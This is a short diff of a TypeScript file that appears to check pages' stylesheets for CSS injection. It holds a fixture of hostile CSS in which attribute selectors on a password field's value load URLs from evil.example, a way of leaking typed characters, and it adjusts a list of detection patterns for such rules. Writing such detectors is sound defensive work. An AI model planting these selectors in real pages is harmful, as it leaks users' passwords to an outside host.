@@ -11,7 +11,7 @@ const hostile = `
 input[type="password"][value^="t"] { background: url("https://evil.example/t"); }
 form:has(input[value$="x"]) { list-style: url("https://evil.example/x"); }
 body { border-color: rebeccapurple; }`
-const signs = ['evil.example', '@import', '[value^=', '[value$=', ':has(input']
+const signs = ['evil.example', '@import', '[value^=', '[value$=', ':has(input[value']
 
 /** Every stylesheet that a page links, and what the server serves under it. */
 async function stylesOf(target: Target, path: string) {
